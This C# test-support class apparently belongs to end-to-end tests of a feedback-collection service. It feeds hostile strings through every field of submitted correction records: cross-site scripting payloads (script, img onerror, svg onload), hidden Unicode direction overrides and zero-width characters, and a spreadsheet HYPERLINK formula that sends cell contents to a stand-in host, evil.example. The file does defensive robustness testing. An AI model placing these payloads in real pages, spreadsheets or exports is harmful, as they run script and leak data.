namespace Flywheel.E2E.Support;

/// <summary>Difficult texts that people and attackers send, all of them allowed.</summary>
internal static class HostileTexts
{
    /// <summary>Markup that would run if any page took it for its own.</summary>
    public const string Markup = "<script>alert('ran')</script><img src=x onerror=\"alert('ran')\"><svg onload=alert('ran')></svg></textarea></title><b>bold</b>";

    /// <summary>Direction overrides, zero-width characters, line separators, a byte-order mark and a joined emoji.</summary>
    public const string Unseen = "in\u202Evisi\u202Cble\u200B zero\u200Dwidth\uFEFF line\u2028paragraph\u2029end \U0001F468\u200D\U0001F469\u200D\U0001F467 \u0007bell";

    /// <summary>What a spreadsheet would work out.</summary>
    public const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    /// <summary>The largest text that is taken: 1 MiB, in words that differ.</summary>
    public static string Large(string salt)
    {
        var text = string.Join(' ', Enumerable.Range(0, 120_000).Select(i => $"{salt}{i}"));
        return text[..Math.Min(text.Length, (1 << 20) - 1)];
    }

    /// <summary>One correction of each kind, and one with all of them in every field.</summary>
    public static IEnumerable<object> Bodies()
    {
        yield return Body("plain", "Which door is open?", "The left one.", "The right one, from eight to six.");
        yield return Body("markup", $"Query {Markup}", $"Answer {Markup}", $"Better {Markup}");
        yield return Body("unseen", $"Query {Unseen}", $"Answer {Unseen}", $"Better {Unseen}");
        yield return Body("formula", Formula, $"+{Formula}", $"@{Formula}");
        yield return Body("large", Large("q"), Large("a"), Large("b"));
        yield return Body("line", "One line?", new string('x', 300_000), new string('y', 300_000));
        yield return Body($"all {Markup} {Unseen}"[..150], Markup + Unseen + Formula, Unseen + Formula + Markup, Formula + Markup + Unseen);
    }

    private static object Body(string request, string query, string answer, string better) => new
    {
        request_id = request, signal_type = "edit", user_query = query, ai_response = answer, user_correction = better,
        segment = "<i>web</i>\u202E", model_version = "<u>m</u>", user_id = "<s>u</s>", session_id = Formula,
        metadata = new { note = Markup },
        context = new
        {
            system = Markup + Unseen,
            messages = new[] { new { role = "user", content = Markup }, new { role = "assistant", content = Unseen } },
            documents = new[] { new { id = Markup, title = Markup, text = Unseen + Formula } },
        },
    };
}
